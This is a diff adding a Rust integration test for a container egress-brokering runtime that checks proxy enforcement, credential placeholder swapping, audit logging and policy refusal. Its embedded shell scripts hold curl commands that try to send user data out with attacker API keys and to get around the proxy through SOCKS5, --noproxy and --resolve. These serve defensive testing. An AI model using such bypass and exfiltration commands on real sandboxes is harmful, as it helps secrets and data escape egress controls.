@@ -1,0 +1,303 @@
+//! A container under a paddock policy (`io.paddock.policy`), through
+//! Debian's podman with paddock as the runtime: the egress attacks of
+//! `paddock run` (a denied host, a foreign credential on an allowed
+//! host, SOCKS5, a direct connection that ignores the proxy, the
+//! engine's own network) from the container's first process and from
+//! `podman exec`. Ground truth is what the test's HTTPS server received,
+//! and the audit log on the node.
+
+use std::path::Path;
+use std::process::Command;
+
+use crate::egress::{Upstream, REAL_KEY};
+use crate::oci::{image_as, runtime, Podman};
+use crate::util::*;
+
+const POLICY: &str = r#"version = 1
+[network]
+mode = "proxy"
+allow = ["api.test.example", "127.0.0.1:PORT"]
+
+[[network.rules]]
+host = "api.test.example"
+inspect = true
+allow = ["POST /v1/messages", "GET /v1/models"]
+
+[[network.credentials]]
+host = "api.test.example"
+header = "x-api-key"
+source = "env:PADDOCK_IT_REAL_KEY"
+env = "ANTHROPIC_API_KEY"
+"#;
+
+/// What the container runs: an allowed call with the placeholder, then
+/// the attacks, each line saying how it ended.
+const ATTACKS: &str = r#"
+echo "key=$ANTHROPIC_API_KEY"
+curl -sS https://api.test.example/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"; echo " allowed=$?"
+curl -sS -o /dev/null -w 'foreign=%{http_code}\n' -X POST -H 'x-api-key: sk-attacker-0000' --data-binary 'the user files' https://api.test.example/v1/messages
+curl -sS -o /dev/null -w 'denied=%{http_code}/%{http_connect}\n' https://other.test.example/ 2>/dev/null; echo "denied_rc=$?"
+curl -sS -o /dev/null -w 'socks=%{http_code}\n' --socks5-hostname 127.0.0.1:3128 -X POST -H 'x-api-key: sk-attacker-0001' --data-binary 'the user files' https://api.test.example/v1/messages
+curl -k -sS -m 5 --noproxy '*' -o /dev/null -H 'x-api-key: sk-attacker-0005' --data-binary 'the user files' https://127.0.0.1:PORT/v1/messages 2>/dev/null; echo "host_loopback_rc=$?"
+curl -sS -m 5 --noproxy '*' --resolve api.test.example:443:192.0.2.7 -o /dev/null -H 'x-api-key: sk-attacker-0002' https://api.test.example/v1/models 2>/dev/null; echo "ip_literal_rc=$?"
+"#;
+
+const FROM_EXEC: &str = r#"
+echo "exec_key=$ANTHROPIC_API_KEY"
+curl -sS -o /dev/null -w 'exec_foreign=%{http_code}\n' -X POST -H 'x-api-key: sk-attacker-0003' --data-binary x https://api.test.example/v1/messages
+env -u HTTPS_PROXY -u https_proxy curl -sS -m 5 --resolve api.test.example:443:192.0.2.8 -o /dev/null -H 'x-api-key: sk-attacker-0004' https://api.test.example/v1/models 2>/dev/null; echo "exec_ip_literal_rc=$?"
+curl -sS https://api.test.example/v1/models -H "x-api-key: $ANTHROPIC_API_KEY"; echo " exec_allowed=$?"
+"#;
+
+fn line<'a>(out: &'a str, key: &str) -> &'a str {
+    out.lines()
+        .find_map(|l| l.strip_prefix(key))
+        .unwrap_or_else(|| panic!("no `{key}` in:\n{out}"))
+}
+
+/// Every event of one container's audit log.
+fn events(audit: &Path) -> Vec<(String, serde_json::Value)> {
+    let mut out = Vec::new();
+    for d in std::fs::read_dir(audit).unwrap().flatten() {
+        let id = d.file_name().to_string_lossy().into_owned();
+        for l in std::fs::read_to_string(d.path().join("audit.jsonl"))
+            .unwrap_or_default()
+            .lines()
+        {
+            out.push((id.clone(), serde_json::from_str(l).unwrap()));
+        }
+    }
+    out
+}
+
+/// Under `io.paddock.policy=agent`, a container's only way out is
+/// paddock's proxy: the allowed call arrives with the real key swapped
+/// in (the container held a placeholder); the attacker's key, a denied
+/// host, SOCKS5, the host's loopback and an address literal that ignores
+/// the proxy reach nothing, from `podman run` and from `podman exec`
+/// alike. Every decision and command is in the node's audit log with the
+/// container's id and its pod. A policy named badly, missing, writable
+/// by others or invalid is refused before anything starts, each with
+/// what to do.
+#[test]
+fn a_policy_annotation_gives_a_container_paddocks_egress_brokering_and_audit() {
+    if !running_as_root() {
+        // Rootless containers are refused whole (oci::podman_runs_…).
+        eprintln!("note: podman runs as root only here; skipped");
+        return;
+    }
+    if !tun_usable() {
+        eprintln!("note: /dev/net/tun is not usable; skipped");
+        return;
+    }
+    let ws = Ws::new();
+    let up = Upstream::start(&ws.outside);
+    let policies = ws.root.join("policies");
+    std::fs::create_dir_all(&policies).unwrap();
+    let policy = POLICY.replace("PORT", &up.port.to_string());
+    std::fs::write(policies.join("agent.toml"), &policy).unwrap();
+    std::fs::write(
+        policies.join("bad.toml"),
+        "version = 1\n[network]\nmode = \"proxyy\"\n",
+    )
+    .unwrap();
+    std::fs::write(policies.join("loose.toml"), &policy).unwrap();
+    Command::new("chmod")
+        .args(["0666", policies.join("loose.toml").to_str().unwrap()])
+        .status()
+        .unwrap();
+    let audit = ws.root.join("audit");
+    let wrapper = ws.root.join("paddock-oci-node");
+    let p = up.port;
+    std::fs::write(
+        &wrapper,
+        format!(
+            "#!/bin/sh\nexport PADDOCK_IT_REAL_KEY={REAL_KEY}\nexport PADDOCK_TEST_RESOLVE=api.test.example=127.0.0.1:{p},other.test.example=127.0.0.1:{p}\nexport PADDOCK_TEST_UPSTREAM_CA={}\nexec {} --policy-dir {} --audit-dir {} \"$@\"\n",
+            up.ca.display(),
+            runtime(&ws.root).display(),
+            policies.display(),
+            audit.display()
+        ),
+    )
+    .unwrap();
+    Command::new("chmod")
+        .args(["0755", wrapper.to_str().unwrap()])
+        .status()
+        .unwrap();
+    let pm = Podman {
+        dir: ws.root.join("podman"),
+        rt: wrapper,
+    };
+    std::fs::create_dir_all(&pm.dir).unwrap();
+    // The image's programs are busybox's; curl and its libraries are the
+    // host's /usr, bound read-only.
+    let image = "localhost/paddock-test-curl:1";
+    image_as(&pm, image, &|r| {
+        std::fs::create_dir_all(r.join("usr")).unwrap();
+        for l in ["lib", "lib64"] {
+            std::os::unix::fs::symlink(format!("usr/{l}"), r.join(l)).unwrap();
+        }
+        for a in ["env", "tr"] {
+            std::os::unix::fs::symlink("busybox", r.join("bin").join(a)).unwrap();
+        }
+    });
+    // The engine gives the container the host's own network (the test's
+    // server is on its loopback): the policy's namespace replaces it.
+    let base = [
+        "--network",
+        "host",
+        "-v",
+        "/usr:/usr:ro",
+        "--env",
+        "PATH=/bin:/usr/bin",
+    ];
+    let annotated = |name: &str| {
+        let mut v: Vec<String> = base.iter().map(|s| s.to_string()).collect();
+        for a in [
+            format!("io.paddock.policy={name}"),
+            "io.kubernetes.pod.name=agent-pod".into(),
+            "io.kubernetes.pod.namespace=team-a".into(),
+        ] {
+            v.push("--annotation".into());
+            v.push(a);
+        }
+        v
+    };
+
+    // 1. The container's first process.
+    let args = annotated("agent");
+    let mut extra: Vec<&str> = vec!["--rm"];
+    extra.extend(args.iter().map(String::as_str));
+    let o = pm.run_in(
+        image,
+        &extra,
+        &["sh", "-c", &ATTACKS.replace("PORT", &p.to_string())],
+    );
+    let out = format!("{}\n{}", stdout(&o), stderr(&o));
+    assert!(o.status.success(), "{out}");
+    let key = line(&out, "key=");
+    assert!(
+        !key.is_empty() && key != REAL_KEY,
+        "the container holds a placeholder: {out}"
+    );
+    assert!(line(&out, "{\"ok\": true} allowed=") == "0", "{out}");
+    assert_eq!(line(&out, "foreign="), "403", "{out}");
+    assert!(line(&out, "denied=").ends_with("/403"), "{out}");
+    assert_eq!(line(&out, "socks="), "403", "{out}");
+    assert_ne!(line(&out, "host_loopback_rc="), "0", "{out}");
+    assert_ne!(line(&out, "ip_literal_rc="), "0", "{out}");
+
+    // 1b. The proxy connects out from the engine's network: with
+    //     `--network none` there is none, so the policy gives nothing more.
+    let mut none: Vec<String> = annotated("agent");
+    none[1] = "none".into();
+    let mut extra: Vec<&str> = vec!["--rm"];
+    extra.extend(none.iter().map(String::as_str));
+    let o = pm.run_in(
+        image,
+        &extra,
+        &[
+            "sh",
+            "-c",
+            "curl -sS -m 10 -o /dev/null -w 'none=%{http_code}\\n' https://api.test.example/v1/models -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+        ],
+    );
+    let out = format!("{}\n{}", stdout(&o), stderr(&o));
+    // The proxy answers (a bad gateway); the server hears nothing.
+    assert_ne!(line(&out, "none="), "200", "{out}");
+    assert!(up.requests().len() == 1, "{:?}", up.requests());
+
+    // 2. `podman exec` into a running one: the same variables, the same
+    //    network, the same judge.
+    let mut extra: Vec<&str> = vec!["-d"];
+    extra.extend(args.iter().map(String::as_str));
+    let o = pm.run_in(image, &extra, &["sleep", "60"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let id = stdout(&o).trim().to_string();
+    let o = pm
+        .cmd()
+        .args(["exec", &id, "sh", "-c", FROM_EXEC])
+        .output()
+        .unwrap();
+    let out = stdout(&o);
+    assert!(o.status.success(), "{out}{}", stderr(&o));
+    // The container's own placeholder (each container has its own): the
+    // allowed call below arrives with the real key only if it is.
+    let exec_key = line(&out, "exec_key=");
+    assert!(
+        exec_key.starts_with("paddock-placeholder-") && exec_key != key,
+        "{out}"
+    );
+    assert_eq!(line(&out, "exec_foreign="), "403", "{out}");
+    assert_ne!(line(&out, "exec_ip_literal_rc="), "0", "{out}");
+    assert_eq!(line(&out, "{\"ok\": true} exec_allowed="), "0", "{out}");
+    let o = pm
+        .cmd()
+        .args(["rm", "-f", "-t", "0", &id])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", stderr(&o));
+
+    // Ground truth on the far side: the two allowed calls, each with the
+    // real key; nothing of the attacker's.
+    let got = up.requests();
+    assert_eq!(got.len(), 2, "{got:?}");
+    for r in &got {
+        assert_eq!(r["headers"]["x-api-key"], REAL_KEY, "{r}");
+        assert_eq!(r["path"], "/v1/models", "{r}");
+    }
+    assert!(
+        !serde_json::to_string(&got).unwrap().contains("sk-attacker"),
+        "{got:?}"
+    );
+
+    // The node's audit log: every event names its container and pod.
+    let evs = events(&audit);
+    assert!(!evs.is_empty());
+    for (dir, e) in &evs {
+        assert_eq!(e["labels"]["container.id"], dir.as_str(), "{e}");
+        assert_eq!(e["labels"]["k8s.pod.name"], "agent-pod", "{e}");
+        assert_eq!(e["labels"]["k8s.namespace.name"], "team-a", "{e}");
+    }
+    let mine: Vec<&serde_json::Value> = evs
+        .iter()
+        .filter(|(d, _)| *d == id)
+        .map(|(_, e)| e)
+        .collect();
+    let of = |_: &str| mine.iter().copied();
+    let foreign = of(&id)
+        .filter(|e| e["kind"] == "net.decision" && e["reason_code"] == "NET_FOREIGN_CREDENTIAL")
+        .count();
+    assert_eq!(foreign, 1, "the exec's foreign key, recorded: {evs:?}");
+    assert!(
+        of(&id).any(|e| e["kind"] == "exec.start" && e["data"]["argv"][0] == "sh"),
+        "{evs:?}"
+    );
+    // The proxy's daemon ended with the container.
+    let proxy = of(&id)
+        .find_map(|e| e["data"]["proxy_pid"].as_u64())
+        .expect("session.start names the proxy");
+    let gone = (0..100).any(|_| {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+        std::fs::read_to_string(format!("/proc/{proxy}/stat")).map_or(true, |s| s.contains(") Z "))
+    });
+    assert!(gone, "the egress daemon {proxy} outlived its container");
+    assert!(of(&id).any(|e| e["kind"] == "session.stop"), "{evs:?}");
+
+    // 3. Policies that are not to be used, refused before anything runs.
+    let before = std::fs::read_dir(&audit).unwrap().count();
+    for (name, why) in [
+        ("../agent", "not a path"),
+        ("missing", "missing.toml"),
+        ("loose", "others may write"),
+        ("bad", "bad.toml"),
+    ] {
+        let args = annotated(name);
+        let mut extra: Vec<&str> = vec!["--rm"];
+        extra.extend(args.iter().map(String::as_str));
+        let o = pm.run_in(image, &extra, &["true"]);
+        assert!(!o.status.success(), "{name}");
+        assert!(stderr(&o).contains(why), "{name}: {}", stderr(&o));
+    }
+    assert_eq!(std::fs::read_dir(&audit).unwrap().count(), before);
+}
